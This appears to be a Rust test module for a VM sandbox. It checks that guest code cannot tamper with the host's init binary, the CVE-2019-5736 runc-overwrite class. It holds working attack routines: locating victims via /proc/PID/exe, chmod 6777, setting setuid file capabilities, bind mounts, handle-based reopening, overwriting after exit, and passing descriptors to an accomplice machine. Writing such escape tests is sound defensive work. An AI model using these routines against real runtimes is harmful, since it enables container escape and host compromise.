//! The file of the program that init runs, which belongs to the host (the class of CVE-2019-5736).
//!
//! A script whose interpreter is `/proc/self/exe` runs that file again as a process of the guest, and
//! `/proc/PID/exe` of that process leads to it. What an ordinary user's guest finds there belongs to the
//! user: its mode, owner, times, attributes and, once nobody runs it, its bytes.

use std::fs::{self, File};
use std::io;
use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use fastvm_sandbox::{ExecSpec, Exit, Host, HostOptions, Process, Rootfs, Running, VolumeMount};
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use rustix::fs::{AtFlags, CWD, Gid, Mode, OFlags, Timestamps, Uid, XattrFlags, openat};
use rustix::process::{Pid, PidfdFlags, pidfd_open};

use crate::lab::{Guest, Lab, command, program};
use crate::probe::{self, Report, attack_inside, hold_inside};
use crate::syscalls::{self, address_of, call, number_of};

/// A FIFO inside that the loader of a victim waits for, so that the victim stays until the probe is done.
const HOLD: &str = "/root/hold";
/// How long the probe looks for a victim.
const SEARCH_TIME: Duration = Duration::from_secs(3);

/// Everything that can be asked of a file, but what is in it and when it was read. Who writes to it
/// changes its times too.
#[derive(Debug, PartialEq, Eq)]
struct State {
    mode: u32,
    owner: (u32, u32),
    links: u64,
    modified: (i64, i64),
    changed: (i64, i64),
    attributes: Vec<u8>,
    size: u64,
}

fn state(path: &Path) -> State {
    let found = fs::metadata(path).unwrap();
    let mut attributes = vec![0; 4096];
    let count = rustix::fs::listxattr(path, &mut attributes).unwrap();
    attributes.truncate(count);
    State {
        mode: found.mode(),
        owner: (found.uid(), found.gid()),
        links: found.nlink(),
        modified: (found.mtime(), found.mtime_nsec()),
        changed: (found.ctime(), found.ctime_nsec()),
        attributes,
        size: found.size(),
    }
}

fn has_bytes_of_program(path: &Path) -> bool {
    fs::read(path).unwrap() == fs::read(program()).unwrap()
}

/// A lab whose machines run a copy of the program that belongs to the user of the tests.
fn lab_with_copy(name: &str) -> (Lab, PathBuf) {
    let mut lab = Lab::new();
    let copy = lab.folder.join(name);
    fs::copy(program(), &copy).unwrap();
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).unwrap();
    let data =
        std::env::var_os(crate::lab::DATA).unwrap_or_else(|| env!("CARGO_TARGET_TMPDIR").into());
    lab.host = Host::detect(HostOptions {
        program: copy.clone(),
        data: PathBuf::from(data).join("sandbox"),
        rootfs: Rootfs::Host,
    })
    .unwrap();
    (lab, copy)
}

/// The same command with a loader that waits for the probe.
fn held(mut spec: ExecSpec) -> ExecSpec {
    spec.env.push(("LD_PRELOAD".into(), HOLD.into()));
    spec
}

/// Files inside that make init run its own program again, when they are started.
const PREPARE: &str = "mkfifo /root/hold
    printf '#!/proc/self/exe\n' > /root/self
    printf '#!/proc/1/exe\n' > /root/init
    printf '#!/proc/thread-self/exe vm\n' > /root/thread
    printf '#!fastvm-init\n' > /root/booter; ln -s /proc/self/exe /root/fastvm-init
    ln -s /proc/self/exe /root/link
    chmod 755 /root/self /root/init /root/thread /root/booter
    cp \"$(command -v sleep)\" /root/tool; chmod 777 /root/tool";

enum Started {
    Process(Process),
    Console(Running, OwnedFd),
}

impl Started {
    fn wait(self) -> Exit {
        match self {
            Self::Process(mut process) => process.wait().unwrap(),
            Self::Console(mut process, _master) => process.wait().unwrap(),
        }
    }
}

fn start(guest: &Guest, way: &str) -> Started {
    let mut spec = held(command(&[way, "0"]));
    spec.cwd = PathBuf::from("/root");
    Started::Process(guest.machine.exec(&spec).unwrap())
}

fn start_on_console(guest: &Guest, way: &str) -> Started {
    let console = guest.machine.console(&held(command(&[way, "0"]))).unwrap();
    Started::Console(console.process, console.master)
}

/// Lets the probe attack what was started. Where that could not be started there is nothing to attack.
fn attack_started(guest: &Guest, started: Started) {
    let findings = attack_inside(&guest.machine, "program_file", &["find"]);
    let exit = started.wait();
    if findings.value("victim") == "none" {
        assert!(matches!(exit, Exit::Code(126 | 127)), "{exit:?}");
    }
}

/// On a program of the guest itself everything works that is tried on the program of init.
fn assert_probe_works(guest: &Guest) {
    guest.says("test -x /root/tool");
    let started = start(guest, "/root/tool");
    let findings = attack_inside(&guest.machine, "program_file", &["find"]);
    assert_eq!(started.wait(), Exit::Code(0));
    let succeeded = findings.succeeded();
    for name in [
        "open for reading",
        "chmod",
        "fchmod",
        "chown",
        "setxattr",
        "utimensat",
        "link",
        "bind mount",
        "fchmod of the bind mount",
        "open for writing when it has ended",
        "write when it has ended",
        "truncate when it has ended",
        "mapping when it has ended",
    ] {
        assert!(succeeded.contains(&name), "{name}: {findings:?}");
    }
    // And where the probe looks it finds the bytes that it has written.
    assert_eq!(guest.says("stat -c %s /root/tool"), "4\n");
}

#[test]
fn a_program_run_as_interpreter_gives_nothing_of_its_file() {
    let (lab, program) = lab_with_copy("fastvm");
    let guest = probe::boot(&lab);
    guest.says(PREPARE);
    assert_probe_works(&guest);
    let before = state(&program);
    for way in [
        "/root/self",
        "/root/init",
        "/root/thread",
        "/root/booter",
        "/root/link",
        "/proc/self/exe",
    ] {
        attack_started(&guest, start(&guest, way));
        assert_eq!(state(&program), before, "{way}");
    }
    attack_started(&guest, start_on_console(&guest, "/root/self"));
    assert_eq!(state(&program), before, "a console");
    assert_eq!(guest.says("echo alive"), "alive\n");
    guest.machine.kill().unwrap();
    assert_eq!(state(&program), before, "after the end");
    assert!(has_bytes_of_program(&program));
    assert_eq!(lab.boot().says("echo alive"), "alive\n");
}

#[test]
fn a_restored_machine_gives_nothing_of_the_file_either() {
    let (lab, program) = lab_with_copy("fastvm");
    let first = probe::boot(&lab);
    first.says(PREPARE);
    first.machine.kill().unwrap();
    let before = state(&program);
    let mut spec = probe::spec(&lab);
    spec.layers = vec![first.spec.upper.clone()];
    let guest = lab.boot_as(spec);
    attack_started(&guest, start(&guest, "/root/self"));
    attack_started(&guest, start_on_console(&guest, "/root/link"));
    assert_eq!(state(&program), before);
    assert!(has_bytes_of_program(&program));
    assert_probe_works(&guest);
}

#[test]
fn a_second_machine_cannot_overwrite_the_program_of_one_that_has_ended() {
    let ((lab, program), (other_lab, _)) = (lab_with_copy("one"), lab_with_copy("other"));
    let shared = lab.folder.join("shared");
    lab.host.create_volume(&shared).unwrap();
    let boot = |lab: &Lab| {
        let mut spec = probe::spec(lab);
        spec.volumes.push(VolumeMount {
            source: shared.clone(),
            target: PathBuf::from("/mnt/shared"),
            read_only: false,
        });
        lab.boot_as(spec)
    };
    let (guest, accomplice) = (boot(&lab), boot(&other_lab));
    guest.says(PREPARE);
    let before = state(&program);
    let victims = [start(&guest, "/root/tool"), start(&guest, "/root/self")];
    let holding = std::thread::scope(|scope| {
        let receiver = scope.spawn(|| {
            let arguments = ["receive", "/mnt/shared/socket"];
            hold_inside(&accomplice.machine, "program_file", &arguments)
        });
        attack_inside(
            &guest.machine,
            "program_file",
            &["send", "/mnt/shared/socket"],
        );
        receiver.join().unwrap()
    });
    guest.machine.kill().unwrap();
    let findings = holding.release();
    assert_eq!(state(&program), before);
    assert!(has_bytes_of_program(&program));
    // What it could do to a file of the machine, it did.
    assert!(
        findings.succeeded().contains(&"write when it has ended"),
        "{findings:?}"
    );
    let tool = guest.spec.upper.join("root/root/tool");
    assert_eq!(fs::read(tool).unwrap(), b"!ost");
    drop(victims);
}

pub(crate) fn attack(report: &Report, arguments: &[String]) {
    match arguments[0].as_str() {
        "find" => attack_victim(report),
        "send" => send_to_accomplice(report, Path::new(&arguments[1])),
        "receive" => overwrite_received(report, Path::new(&arguments[1])),
        other => panic!("{other}"),
    }
}

/// Processes whose loader waits, with their programs: all that there are beside init and this probe,
/// once they are ready.
fn find_victims() -> Vec<(u32, OwnedFd)> {
    let parent = rustix::process::getppid().map_or(0, |pid| pid.as_raw_nonzero().get());
    let known = [1, std::process::id(), parent.unsigned_abs()];
    let end = Instant::now() + SEARCH_TIME;
    loop {
        let entries = fs::read_dir("/proc").unwrap();
        let names = entries.map(|entry| entry.unwrap().file_name());
        let pids = names.filter_map(|name| name.to_str()?.parse().ok());
        let others: Vec<u32> = pids.filter(|pid| !known.contains(pid)).collect();
        let found: Vec<_> = others.iter().filter_map(|pid| victim(*pid)).collect();
        if found.len() == others.len() || Instant::now() > end {
            return found;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}

fn victim(pid: u32) -> Option<(u32, OwnedFd)> {
    // The loader maps libc after what it waits for; of init nothing can be read.
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    if maps.is_empty() || maps.contains("libc.so") {
        return None;
    }
    let exe = format!("/proc/{pid}/exe");
    Some((pid, openat(CWD, &exe, OFlags::PATH, Mode::empty()).ok()?))
}

fn attack_victim(report: &Report) {
    let Some((pid, path_only)) = find_victims().pop() else {
        report.say("victim", "none");
        return;
    };
    report.say("victim", pid);
    let exe = format!("/proc/{pid}/exe");
    attack_file(report, pid, &exe, path_only.as_fd());
    let process = pidfd_open(
        Pid::from_raw(i32::try_from(pid).unwrap()).unwrap(),
        PidfdFlags::empty(),
    )
    .unwrap();
    let readable = openat(CWD, &exe, OFlags::RDONLY, Mode::empty());
    release_victim();
    wait_for_end(&process);
    attack_bytes(report, path_only.as_fd());
    if let Ok(readable) = readable {
        let name = "reopening a descriptor for reading when it has ended";
        report.attempt(name, open_again(readable.as_fd(), OFlags::RDWR));
    }
}

/// What can be done to a file while it runs.
fn attack_file(report: &Report, pid: u32, exe: &str, path_only: BorrowedFd<'_>) {
    let mode = Mode::from_raw_mode(0o6777);
    let owner = (Some(Uid::ROOT), Some(Gid::ROOT));
    let times = Timestamps {
        last_access: rustix::fs::Timespec {
            tv_sec: 1,
            tv_nsec: 1,
        },
        last_modification: rustix::fs::Timespec {
            tv_sec: 1,
            tv_nsec: 1,
        },
    };
    report.attempt("chmod", rustix::fs::chmod(exe, mode).map_err(Into::into));
    report.attempt(
        "chown",
        rustix::fs::chown(exe, owner.0, owner.1).map_err(Into::into),
    );
    let create = XattrFlags::empty();
    let set = rustix::fs::setxattr(exe, "user.escape", b"x", create);
    report.attempt("setxattr", set.map_err(Into::into));
    let set = rustix::fs::setxattr(exe, "security.capability", &FILE_CAPABILITIES, create);
    report.attempt("setxattr of capabilities", set.map_err(Into::into));
    let set = rustix::fs::utimensat(CWD, exe, &times, AtFlags::empty());
    report.attempt("utimensat", set.map_err(Into::into));
    report.attempt(
        "truncate",
        call(libc::SYS_truncate, &[address_of(&*syscalls::path(exe)), 0]),
    );
    for (name, flags) in [
        ("writing", OFlags::WRONLY),
        ("both", OFlags::RDWR),
        ("truncating", OFlags::WRONLY | OFlags::TRUNC),
        ("direct writing", OFlags::WRONLY | OFlags::DIRECT),
    ] {
        let opened = openat(CWD, exe, flags, Mode::empty());
        report.attempt(format!("open for {name}"), opened.map_err(Into::into));
        report.attempt(
            format!("open for {name} by descriptor"),
            open_again(path_only, flags),
        );
    }
    attack_by_path_descriptor(report, path_only);
    let readable = openat(CWD, exe, OFlags::RDONLY, Mode::empty());
    if let Some(file) = report.attempt("open for reading", readable.map_err(Into::into)) {
        attack_open_file(report, "", &file);
    }
    attack_mounts(report, exe, path_only);
    for what in ["map_files", "fd", "task"] {
        let folder = format!("/proc/{pid}/{what}");
        for entry in fs::read_dir(&folder).into_iter().flatten().flatten() {
            let opened = File::options().write(true).open(entry.path());
            if what != "fd" {
                report.attempt(format!("open for writing of {what}"), opened);
            }
        }
    }
}

/// `cap_setuid+ep`, in the second version, which is the root's of the host.
const FILE_CAPABILITIES: [u8; 20] = [
    1, 0, 0, 2, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];

fn open_again(file: BorrowedFd<'_>, flags: OFlags) -> io::Result<OwnedFd> {
    let path = format!("/proc/self/fd/{}", number_of(file));
    Ok(openat(CWD, path, flags, Mode::empty())?)
}

/// What needs no more than a descriptor that was opened with `O_PATH`.
fn attack_by_path_descriptor(report: &Report, file: BorrowedFd<'_>) {
    let (empty, number) = (address_of(c""), number_of(file));
    let at_empty = usize::try_from(libc::AT_EMPTY_PATH).unwrap();
    report.attempt(
        "fchmodat2",
        call(libc::SYS_fchmodat2, &[number, empty, 0o6777, at_empty]),
    );
    report.attempt(
        "fchownat",
        call(libc::SYS_fchownat, &[number, empty, 0, 0, at_empty]),
    );
    for (name, target, flags) in [
        ("link", "/root/linked", AtFlags::EMPTY_PATH),
        (
            "link by name",
            "/root/linked-by-name",
            AtFlags::SYMLINK_FOLLOW,
        ),
    ] {
        fs::remove_file(target).unwrap_or_default();
        let linked = if flags == AtFlags::EMPTY_PATH {
            rustix::fs::linkat(file, "", CWD, target, flags)
        } else {
            let own = format!("/proc/self/fd/{number}");
            rustix::fs::linkat(CWD, own, CWD, target, flags)
        };
        report.attempt(name, linked.map_err(Into::into));
    }
    attack_by_handle(report, file);
}

/// The number of a file in its file system, which needs no path.
fn attack_by_handle(report: &Report, file: BorrowedFd<'_>) {
    let mut handle = [0_u32; 34];
    handle[0] = 128;
    let mut mount = 0_i32;
    let at_empty = usize::try_from(libc::AT_EMPTY_PATH).unwrap();
    let arguments = [
        number_of(file),
        address_of(c""),
        syscalls::address_of_mut(&mut handle),
        syscalls::address_of_mut(&mut mount),
        at_empty,
    ];
    if report
        .attempt(
            "name_to_handle_at",
            call(libc::SYS_name_to_handle_at, &arguments),
        )
        .is_none()
    {
        return;
    }
    for flags in [libc::O_RDONLY, libc::O_WRONLY] {
        let root = openat(CWD, "/", OFlags::RDONLY, Mode::empty()).unwrap();
        let arguments = [
            number_of(root.as_fd()),
            address_of(&handle),
            usize::try_from(flags).unwrap(),
        ];
        let opened = call(libc::SYS_open_by_handle_at, &arguments);
        report.attempt("open_by_handle_at", opened.map(syscalls::descriptor));
    }
}

/// What can be done through a descriptor for reading.
fn attack_open_file(report: &Report, of: &str, file: &OwnedFd) {
    let mode = Mode::from_raw_mode(0o6777);
    let times = Timestamps {
        last_access: rustix::fs::Timespec {
            tv_sec: 2,
            tv_nsec: 2,
        },
        last_modification: rustix::fs::Timespec {
            tv_sec: 2,
            tv_nsec: 2,
        },
    };
    let root = (Some(Uid::ROOT), Some(Gid::ROOT));
    let say = |name: &str, result: rustix::io::Result<()>| {
        report.attempt(format!("{name}{of}"), result.map_err(Into::into));
    };
    say("fchmod", rustix::fs::fchmod(file, mode));
    say("fchown", rustix::fs::fchown(file, root.0, root.1));
    say("futimens", rustix::fs::futimens(file, &times));
    say(
        "fsetxattr",
        rustix::fs::fsetxattr(file, "user.escape", b"y", XattrFlags::empty()),
    );
    say(
        "fremovexattr",
        rustix::fs::fremovexattr(file, "user.escape"),
    );
    say("ftruncate", rustix::fs::ftruncate(file, 0));
    say(
        "fallocate",
        rustix::fs::fallocate(file, rustix::fs::FallocateFlags::empty(), 0, 1 << 30),
    );
    say(
        "flags",
        rustix::fs::ioctl_setflags(file, rustix::fs::IFlags::NODUMP),
    );
    let other = File::open("/proc/self/exe").unwrap();
    say("clone", rustix::fs::ioctl_ficlone(file, &other));
    say("write", rustix::io::write(file, b"x").map(drop));
    report.attempt(
        format!("mapping{of}"),
        syscalls::write_through_mapping(file.as_fd()),
    );
    report.attempt(
        format!("opening again{of}"),
        open_again(file.as_fd(), OFlags::WRONLY),
    );
}

/// A mount of the file could be writable.
fn attack_mounts(report: &Report, exe: &str, file: BorrowedFd<'_>) {
    use rustix::mount::{MountFlags, OpenTreeFlags, mount_bind, mount_remount, open_tree};
    report.attempt("mount_setattr", syscalls::clear_read_only(file));
    fs::write("/root/bound", "").unwrap();
    if report
        .attempt(
            "bind mount",
            mount_bind(exe, "/root/bound").map_err(Into::into),
        )
        .is_some()
    {
        let again = mount_remount("/root/bound", MountFlags::BIND, c"");
        report.attempt("remount", again.map_err(Into::into));
        let bound = openat(CWD, "/root/bound", OFlags::RDONLY, Mode::empty()).unwrap();
        attack_open_file(report, " of the bind mount", &bound);
        rustix::mount::unmount("/root/bound", rustix::mount::UnmountFlags::DETACH).unwrap();
    }
    let flags = OpenTreeFlags::OPEN_TREE_CLONE | OpenTreeFlags::OPEN_TREE_CLOEXEC;
    let trees = [
        open_tree(file, "", flags | OpenTreeFlags::AT_EMPTY_PATH),
        open_tree(CWD, exe, flags),
    ];
    for tree in trees {
        let Some(tree) = report.attempt("open_tree", tree.map_err(Into::into)) else {
            continue;
        };
        report.attempt(
            "mount_setattr of the tree",
            syscalls::clear_read_only(tree.as_fd()),
        );
        if let Ok(opened) = open_again(tree.as_fd(), OFlags::RDONLY) {
            attack_open_file(report, " of the tree", &opened);
        }
        let moved = rustix::mount::move_mount(
            &tree,
            "",
            CWD,
            "/root/bound",
            rustix::mount::MoveMountFlags::MOVE_MOUNT_F_EMPTY_PATH,
        );
        if report
            .attempt("move_mount", moved.map_err(Into::into))
            .is_some()
        {
            rustix::mount::unmount("/root/bound", rustix::mount::UnmountFlags::DETACH).unwrap();
        }
    }
}

/// Lets the loader of a victim go on: it reads nothing from the FIFO and ignores it.
fn release_victim() {
    let flags = OFlags::WRONLY | OFlags::NONBLOCK;
    drop(openat(CWD, HOLD, flags, Mode::empty()).unwrap());
}

fn wait_for_end(process: &OwnedFd) {
    let time = Timespec {
        tv_sec: 10,
        tv_nsec: 0,
    };
    let mut watched = [PollFd::new(process, PollFlags::IN)];
    assert_eq!(
        poll(&mut watched, Some(&time)).unwrap(),
        1,
        "the victim does not end"
    );
}

/// What can be done to a file that nobody runs any more.
fn attack_bytes(report: &Report, file: BorrowedFd<'_>) {
    let opened = open_again(file, OFlags::RDWR);
    if let Some(opened) = report.attempt("open for writing when it has ended", opened) {
        let written = rustix::io::write(&opened, b"lost");
        report.attempt("write when it has ended", written.map_err(Into::into));
        report.attempt(
            "mapping when it has ended",
            syscalls::write_through_mapping(opened.as_fd()),
        );
        let truncated = rustix::fs::ftruncate(&opened, 4);
        report.attempt("truncate when it has ended", truncated.map_err(Into::into));
    }
}

/// Gives the programs of all victims to another machine.
fn send_to_accomplice(report: &Report, socket: &Path) {
    let victims = find_victims();
    report.say("victims", victims.len());
    let end = Instant::now() + SEARCH_TIME;
    let stream = loop {
        match UnixStream::connect(socket) {
            Err(_) if Instant::now() < end => std::thread::sleep(Duration::from_millis(1)),
            result => break result.unwrap(),
        }
    };
    let files: Vec<BorrowedFd<'_>> = victims.iter().map(|(_, file)| file.as_fd()).collect();
    syscalls::send_descriptors(&stream, &files).unwrap();
}

/// Overwrites what another machine has sent, once that has ended.
fn overwrite_received(report: &Report, socket: &Path) {
    let listener = UnixListener::bind(socket).unwrap();
    fs::set_permissions(socket, fs::Permissions::from_mode(0o777)).unwrap();
    let (stream, _) = listener.accept().unwrap();
    let files = syscalls::receive_descriptors(&stream).unwrap();
    report.hold();
    for file in files {
        attack_bytes(report, file.as_fd());
    }
}
